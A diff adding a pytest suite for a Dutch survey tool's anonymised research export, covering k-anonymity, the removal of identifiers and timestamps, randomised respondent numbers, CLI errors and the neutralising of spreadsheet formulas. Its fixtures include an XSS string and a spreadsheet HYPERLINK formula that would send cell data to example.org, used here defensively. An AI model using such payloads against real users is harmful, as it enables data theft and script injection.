@@ -1,0 +1,320 @@
+"""The anonymised export for researchers: no group under k, no timestamps, tokens, codes or database
+ids, open answers only on request, formulas neutralised, and a README that explains every file."""
+
+from __future__ import annotations
+
+import csv
+import random
+import re
+import tempfile
+from collections import Counter
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from dia_scan import anonymised, codes, rounds, storage
+from dia_scan.cli import main
+
+INSIDE = ("raad", "college", "organisatie")
+SCRIPT = "<script>alert('x')</script> **vet** [klik](javascript:alert(1))"
+FORMULA = '=HYPERLINK("http://example.org/?data="&A1)'
+
+
+def _draft(instrument, group_id: str, rng: random.Random, opens: dict | None = None) -> dict:
+    answers = {
+        s.id: ("dk" if rng.random() < 0.1 else rng.randint(1, 5))
+        for _, s in instrument.statements_for(group_id)
+    }
+    themes = [t.id for t in rounds.priority_options(instrument, group_id)]
+    return {"answers": answers, "priorities": rng.sample(themes, 3), "open": opens or {}}
+
+
+def _fill(db, round_row: dict, sizes: dict[str, int], rng: random.Random, opens: dict | None = None) -> None:
+    instrument = rounds.round_instrument(db, round_row)
+    for group_id, n in sizes.items():
+        for i in range(n):
+            texts = (opens or {}).get(group_id) if i == 0 else None
+            rounds.submit_complete(db, round_row, group_id, _draft(instrument, group_id, rng, texts))
+
+
+@pytest.fixture
+def rounds_db(db, catalog):
+    """Three rounds that exercise the anonymity rule in different ways."""
+    rng = random.Random(11)
+    org = storage.insert_organisation(db, "@Gemeente Formule", "gemeente", "Utrecht", "20-50k")
+    made = {}
+    # A: college under k, so the binnenkant is shown merged; inwoners shown.
+    a = rounds.create_round(
+        db, catalog, organisation_id=org, instrument_id="quickscan-gemeente", title="+Ronde A"
+    )
+    made["A"] = storage.get_round(db, a.round_id)
+    _fill(db, made["A"], {"raad": 6, "college": 2, "organisatie": 5, "inwoners": 7}, rng)
+    # B: every binnenkant group has k; inwoners under k (hidden), and they wrote open answers.
+    b = rounds.create_round(
+        db, catalog, organisation_id=org, instrument_id="quickscan-gemeente", title="Ronde B"
+    )
+    made["B"] = storage.get_round(db, b.round_id)
+    _fill(
+        db,
+        made["B"],
+        {"raad": 5, "college": 5, "organisatie": 5, "inwoners": 3},
+        rng,
+        opens={"inwoners": {"open_goed": FORMULA}, "raad": {"open_mis": SCRIPT}},
+    )
+    started = rounds.start_response(db, made["B"], "raad")  # busy, not submitted: never exported
+    rounds.save_draft(
+        db, started.response_id, {"answers": {"raad_kaders": 1}, "open": {"open_tip": "concept"}}
+    )
+    # C: merged binnenkant, with maatwerkvragen that only the (small) college gets.
+    c = rounds.create_round(
+        db,
+        catalog,
+        organisation_id=org,
+        instrument_id="quickscan-gemeente",
+        title="Ronde C",
+        custom_questions=[
+            {"kind": "stelling", "text": "Het college werkt goed samen.", "groups": ["college"]},
+            {"kind": "stelling", "text": "Iedereen krijgt deze stelling.", "groups": []},
+            {"kind": "open", "text": "Alleen voor het college: wat mist u?", "groups": ["college"]},
+        ],
+    )
+    made["C"] = storage.get_round(db, c.round_id)
+    _fill(
+        db,
+        made["C"],
+        {"raad": 5, "college": 3, "organisatie": 5, "inwoners": 5},
+        rng,
+        opens={"college": {"maatwerk_open_3": "Alleen het college schreef dit."}},
+    )
+    return made
+
+
+def _read(directory: Path) -> dict[str, list[dict]]:
+    out = {}
+    for path in sorted(directory.glob("*.csv")):
+        with path.open(encoding="utf-8-sig", newline="") as handle:
+            out[path.name] = list(csv.DictReader(handle))
+    return out
+
+
+def _export(db, directory: Path, **kwargs) -> dict[str, list[dict]]:
+    anonymised.export_anonymised(db, directory, rng=random.Random(0), **kwargs)
+    return _read(directory)
+
+
+def _round_numbers(files) -> dict[str, str]:
+    """Round title (without neutralising apostrophe) -> export round number."""
+    return {r["titel"].lstrip("'"): r["ronde"] for r in files["rondes.csv"]}
+
+
+def _groups_in(files, ronde: str) -> set[str]:
+    return {
+        row["groep"]
+        for rows in files.values()
+        for row in rows
+        if row.get("ronde") == ronde and row.get("groep")
+    }
+
+
+# -- anonymity -----------------------------------------------------------------------------------
+
+
+def test_no_group_under_k_appears_in_any_file(db, rounds_db, tmp_path):
+    files = _export(db, tmp_path / "export", with_open_text=True)
+    number = _round_numbers(files)
+    assert _groups_in(files, number["+Ronde A"]) == {"binnenkant", "inwoners"}
+    assert _groups_in(files, number["Ronde B"]) == {"raad", "college", "organisatie"}
+    assert _groups_in(files, number["Ronde C"]) == {"binnenkant", "inwoners"}
+    shown_n = {(g["ronde"], g["groep"]): int(g["n"]) for g in files["groepen.csv"]}
+    assert all(n >= 5 for n in shown_n.values())
+    assert shown_n[(number["+Ronde A"], "binnenkant")] == 13
+    # Every shown respondent, and only those, has answers.
+    respondents = {(r["ronde"], r["groep"], r["respondent"]) for r in files["antwoorden.csv"]}
+    assert Counter((ronde, groep) for ronde, groep, _ in respondents) == Counter(shown_n)
+
+
+def test_a_question_only_part_of_a_merged_group_got_is_left_out_for_that_group(db, rounds_db, tmp_path):
+    files = _export(db, tmp_path / "export", with_open_text=True)
+    ronde = _round_numbers(files)["Ronde C"]
+
+    def rows(name, **match):
+        return [r for r in files[name] if r["ronde"] == ronde and all(r[k] == v for k, v in match.items())]
+
+    assert not rows("antwoorden.csv", stelling="maatwerk_1"), "answers would reveal the college members"
+    assert not rows("scores_stellingen.csv", stelling="maatwerk_1")
+    assert rows("antwoorden.csv", stelling="maatwerk_2", groep="binnenkant")  # everyone got this one
+    assert not rows("scores_themas.csv", thema="maatwerk", groep="binnenkant")
+    [college_text] = rows("open_antwoorden.csv", vraag="maatwerk_open_3")
+    assert college_text["groep"] == ""
+
+
+def test_no_timestamps_tokens_codes_or_database_ids(db, rounds_db, tmp_path):
+    directory = tmp_path / "export"
+    files = _export(db, directory, with_open_text=True)
+    text = "\n".join(p.read_text(encoding="utf-8-sig") for p in directory.iterdir())
+    assert not re.search(r"\d{4}-\d{2}-\d{2}[T ]\d{2}:\d{2}", text), "a timestamp"
+    assert not re.search(r"\b[0-9a-f]{64}\b", text), "a token hash"
+    assert "scrypt$" not in text
+    for row in rounds_db.values():
+        assert row["join_code"] not in text
+    headers = {h for rows in files.values() for h in (rows[0].keys() if rows else [])}
+    assert not {h for h in headers if "id" in h.split("_") or h.endswith("_at") or "token" in h}
+    assert "concept" not in text, "a draft of an unsubmitted response"
+
+
+def test_respondent_numbers_are_drawn_at_random(db, rounds_db, tmp_path):
+    files = _export(db, tmp_path / "export")
+    ronde = _round_numbers(files)["+Ronde A"]
+    by_number = {int(r["respondent"]): r["groep"] for r in files["antwoorden.csv"] if r["ronde"] == ronde}
+    groups_in_number_order = [by_number[n] for n in sorted(by_number)]
+    # Responses were submitted group by group; numbered in that order the groups would come in blocks.
+    blocks = sum(
+        1 for a, b in zip(groups_in_number_order, groups_in_number_order[1:], strict=False) if a != b
+    )
+    assert blocks > 2
+    response_ids = {a["response_id"] for a in storage.round_raw_answers(db, rounds_db["A"]["id"])}
+    assert set(by_number) != response_ids
+
+
+def test_answers_are_the_stored_answers_of_shown_groups(db, rounds_db, tmp_path):
+    files = _export(db, tmp_path / "export")
+    ronde = _round_numbers(files)["Ronde B"]
+    exported = Counter(
+        (r["groep"], r["stelling"], r["antwoord"]) for r in files["antwoorden.csv"] if r["ronde"] == ronde
+    )
+    stored = Counter(
+        (a["group_id"], a["question_id"], "weet_niet" if a["dont_know"] else str(a["value"]))
+        for a in storage.round_raw_answers(db, rounds_db["B"]["id"])
+        if a["group_id"] in INSIDE
+    )
+    assert exported == stored
+    picks = Counter(
+        (r["groep"], r["thema"]) for r in files["prioriteiten_per_respondent.csv"] if r["ronde"] == ronde
+    )
+    assert sum(picks.values()) == 3 * 15
+
+
+# -- open answers, formulas, README --------------------------------------------------------------
+
+
+def test_open_answers_only_with_the_flag(db, rounds_db, tmp_path):
+    plain = tmp_path / "zonder"
+    files = _export(db, plain)
+    assert "open_antwoorden.csv" not in files
+    text = "\n".join(p.read_text(encoding="utf-8-sig") for p in plain.iterdir())
+    assert "alert" not in text and "HYPERLINK" not in text and "Alleen het college schreef" not in text
+    assert "--with-open-text" in (plain / "README.txt").read_text(encoding="utf-8")
+
+    files = _export(db, tmp_path / "met", with_open_text=True)
+    rows = files["open_antwoorden.csv"]
+    assert set(rows[0]) == {"ronde", "vraag", "vraagtekst", "groep", "tekst"}, "no respondent number"
+    by_text = {r["tekst"]: r for r in rows}
+    assert by_text[SCRIPT]["groep"] == "raad", "HTML and markdown stay text, verbatim"
+    assert by_text["'" + FORMULA]["groep"] == "", "the inwoners of round B are hidden"
+
+
+def test_cells_a_spreadsheet_would_run_are_neutralised(db, rounds_db, tmp_path):
+    files = _export(db, tmp_path / "export", with_open_text=True)
+    assert files["rondes.csv"][0]["organisatie"] == "'@Gemeente Formule"
+    assert "'+Ronde A" in {r["titel"] for r in files["rondes.csv"]}
+    for name, rows in files.items():
+        for row in rows:
+            for value in row.values():
+                assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (name, value)
+
+
+def test_the_readme_explains_every_file(db, rounds_db, tmp_path):
+    directory = tmp_path / "export"
+    summary = anonymised.export_anonymised(db, directory, with_open_text=True)
+    readme = (directory / "README.txt").read_text(encoding="utf-8")
+    assert set(summary.files) == {p.name for p in directory.iterdir()}
+    for name in summary.files:
+        if name != "README.txt":
+            assert name in readme
+    assert summary.rounds == 3 and summary.respondents == len(
+        {(r["ronde"], r["respondent"]) for r in _read(directory)["antwoorden.csv"]}
+    )
+
+
+# -- the command ---------------------------------------------------------------------------------
+
+
+def test_cli_export_refuses_a_full_folder_and_force_removes_old_open_answers(
+    db_path, rounds_db, tmp_path, capsys
+):
+    target = tmp_path / "export"
+    args = ["export-anonymised", "--db", str(db_path), "--to", str(target)]
+    assert main([*args, "--with-open-text"]) == 0
+    assert "open antwoorden" in capsys.readouterr().out
+    assert main(args) == 1
+    err = capsys.readouterr().err
+    assert err.startswith("fout: ") and "niet leeg" in err and "--force" in err
+    assert main([*args, "--force"]) == 0
+    assert not (target / "open_antwoorden.csv").exists(), "an old file with open answers must not linger"
+
+
+def test_cli_export_of_one_round_and_of_bad_input(db_path, rounds_db, tmp_path, capsys):
+    code = rounds_db["B"]["join_code"]
+    assert (
+        main(["export-anonymised", "--db", str(db_path), "--to", str(tmp_path / "een"), "--round", code]) == 0
+    )
+    assert len(_read(tmp_path / "een")["rondes.csv"]) == 1
+    capsys.readouterr()
+    assert (
+        main(["export-anonymised", "--db", str(db_path), "--to", str(tmp_path / "x"), "--round", "ZZZZZZZZ"])
+        == 1
+    )
+    assert "kennen we niet" in capsys.readouterr().err
+    missing = tmp_path / "geen.db"
+    assert main(["export-anonymised", "--db", str(missing), "--to", str(tmp_path / "y")]) == 1
+    assert "bestaat niet" in capsys.readouterr().err and not missing.exists()
+
+
+# -- property: whatever the group sizes, no group under k ----------------------------------------
+
+
+@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
+@given(
+    sizes=st.fixed_dictionaries({g: st.integers(0, 7) for g in (*INSIDE, "inwoners")}),
+    k=st.sampled_from([3, 4, 5]),
+)
+def test_property_no_group_under_k_whatever_the_sizes(catalog, sizes, k):
+    with tempfile.TemporaryDirectory() as tmp:
+        db = storage.connect(Path(tmp) / "p.db")
+        org = storage.insert_organisation(db, "Gemeente")
+        instrument = catalog.instruments["quickscan-gemeente"]
+        storage.store_instrument_version(
+            db,
+            instrument.id,
+            instrument.version,
+            instrument.kind,
+            instrument.title,
+            instrument.model_dump(mode="json"),
+        )
+        round_id = storage.insert_round(  # straight into storage: no slow beheercode hash per example
+            db,
+            organisation_id=org,
+            instrument_id=instrument.id,
+            instrument_version=instrument.version,
+            title="R",
+            join_code="PRPRPRPR",
+            beheercode_hash="-",
+            published=1,
+            k=k,
+        )
+        for group_id, n in sizes.items():
+            for i in range(n):
+                rid = storage.insert_response(db, round_id, group_id, codes.token_hash(f"{group_id}{i}"))
+                storage.submit_response(db, rid, {"raad_kaders": 1 + i % 5, "raad_controle": "dk"}, [], {})
+        files = _export(db, Path(tmp) / "export")
+        db.conn.close()
+    exported = {r["groep"]: int(r["n"]) for r in files["groepen.csv"]}
+    inside_small = any(0 < sizes[g] < k for g in INSIDE)
+    for group_id, n in exported.items():
+        assert n >= k
+        if group_id in INSIDE:
+            assert not inside_small, "a binnenkant group on its own while another one is under k"
+    assert _groups_in(files, "1") <= set(exported)
+    assert sum(exported.values()) == len({r["respondent"] for r in files["antwoorden.csv"]})
